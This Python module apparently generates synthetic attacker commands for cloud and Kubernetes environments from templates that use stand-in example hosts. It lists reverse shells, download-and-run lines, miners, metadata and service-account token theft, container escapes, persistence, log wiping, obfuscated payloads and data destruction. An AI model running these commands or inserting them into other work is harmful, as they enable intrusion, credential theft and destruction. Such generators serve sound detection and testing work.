"""Lines that attackers run, by what they are for; `{host}`, `{address}`, `{port}` and `{word}` are drawn."""

import random

SCRIPTS: dict[str, tuple[str, ...]] = {
    "a shell for another host": (
        "bash -i >& /dev/tcp/{host}/{port} 0>&1",
        "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc {address} {port} > /tmp/f",
        "nc {host} {port} -e /bin/sh",
        "socat exec:'bash -li',pty,stderr tcp:{address}:{port}",
        'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("{host}",{port}));'
        '[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")\'',
    ),
    "something downloaded and run": (
        "curl -fsSL http://{host}/{word}.sh | bash",
        "wget -q -O - http://{address}/{word} | sh",
        "(curl -s http://{address}:{port}/{word} || wget -qO- http://{address}:{port}/{word}) | bash -s",
        "curl -sL https://{host}/{word} -o /tmp/{word} && chmod +x /tmp/{word} && /tmp/{word} &",
        "python3 -c \"import urllib.request;exec(urllib.request.urlopen('http://{host}/{word}.py').read())\"",
    ),
    "a miner": (
        "/usr/bin/{word} -o stratum+tcp://{host}:{port} -u {word}{word} -p x --donate-level=1",
        "xmrig --url {host}:3333 --user {word} --coin monero --cpu-priority 5",
        "./{word} --algo rx/0 -o pool.{host}:14444 -k",
    ),
    "the metadata service": (
        "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "wget -qO- --header 'Metadata-Flavor: Google' "
        "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    ),
    "the token, sent away": (
        "curl -s -d @/var/run/secrets/kubernetes.io/serviceaccount/token http://{host}/{word}",
        "cat /run/secrets/kubernetes.io/serviceaccount/token | nc {address} {port}",
        "wget --post-file=/var/run/secrets/kubernetes.io/serviceaccount/token http://{address}/{word} -O-",
    ),
    "credentials of the node": (
        "cat /host/etc/shadow /host/root/.ssh/id_rsa; cat /host/etc/kubernetes/admin.conf",
        "find / -name '.aws' -exec cat {{}}/credentials \\; | curl -F 'f=@-' https://{host}/{word}",
        "tar cz /host/var/lib/kubelet/pki | curl -T - http://{address}/{word}",
    ),
    "out of the container": (
        "nsenter --target 1 --mount --uts --ipc --net --pid -- bash",
        "chroot /host /bin/bash -c '{word}'",
        "mkdir /tmp/c; mount -t cgroup -o rdma cgroup /tmp/c; echo 1 > /tmp/c/x/notify_on_release; "
        "echo /{word} > /tmp/c/release_agent",
        "docker -H unix:///var/run/docker.sock run -v /:/host --privileged alpine chroot /host sh",
        "insmod /tmp/{word}.ko",
        "echo '|/tmp/{word} %p' > /proc/sys/kernel/core_pattern",
    ),
    "to come back": (
        "echo '* * * * * root curl -s http://{host}/{word} | sh' > /host/etc/cron.d/{word}",
        "echo 'ssh-rsa AAAAB3 {word}' >> /host/root/.ssh/authorized_keys",
        "cp /{word}.yaml /host/etc/kubernetes/manifests/{word}.yaml",
        "echo /lib/{word}.so > /etc/ld.so.preload",
    ),
    "traces": (
        "rm -rf /var/log/*; history -c; unset HISTFILE",
        "pkill -9 falco; iptables -F; setenforce 0",
        "nohup /tmp/.{word} > /dev/null 2>&1 &",
    ),
    "hidden text": (
        "echo Y3VybCBodHRwOi8vZXhhbXBsZS5uZXQvYQ== | base64 -d | sh",
        "python3 -c \"exec(__import__('base64').b64decode('aW1wb3J0IG9z'))\"",
        "printf '\\x63\\x75\\x72\\x6c\\x20\\x68' | sh",
    ),
    "a scan": (
        "nmap -sT -p 10250,2379,6443 10.0.0.0/16",
        "masscan 10.0.0.0/8 -p22,2375,6379 --rate 10000",
        "kube-hunter --pod --active; peirates",
    ),
    "rights in the cluster": (
        "kubectl create clusterrolebinding {word} --clusterrole=cluster-admin --serviceaccount=default:default",
        "kubectl get secrets -A -o yaml | curl -d @- http://{host}/{word}",
        'curl -k -H "Authorization: Bearer $T" https://kubernetes.default/api/v1/namespaces/kube-system/secrets',
    ),
    "a tunnel": (
        "ngrok tcp 22",
        "chisel client http://{host}:{port} R:socks",
        'curl -s https://webhook.site/{word} -d "$(env)"',
        "ssh -fN -R {port}:localhost:22 -o StrictHostKeyChecking=no {word}@{host}",
    ),
    "everything deleted": (
        "rm -rf /host/* --no-preserve-root",
        "kubectl delete all --all -A; kubectl delete ns --all",
        "find /data -type f -exec openssl enc -aes-256-cbc -k {word} -in {{}} -out {{}}.enc \\; -delete",
    ),
}


def line(purpose: str, draw: random.Random) -> str:
    """One of the lines for a purpose."""
    word = "".join(draw.choices("abcdefghijklmnopqrstuvwxyz0123456789", k=draw.randrange(4, 10)))
    host = (
        f"{word}.{draw.choice(('example.net', 'example.xyz', 'cdn-example.top', 'example.duckdns.org', 'example.org'))}"
    )
    parts = [draw.choice((45, 91, 185, 193, 203)), *(draw.randrange(1, 255) for _ in range(3))]
    address = ".".join(map(str, parts))
    port = draw.choice((443, 4444, 8080, 9001, 1337, 53, 8443))
    return draw.choice(SCRIPTS[purpose]).format(host=host, address=address, port=port, word=word)
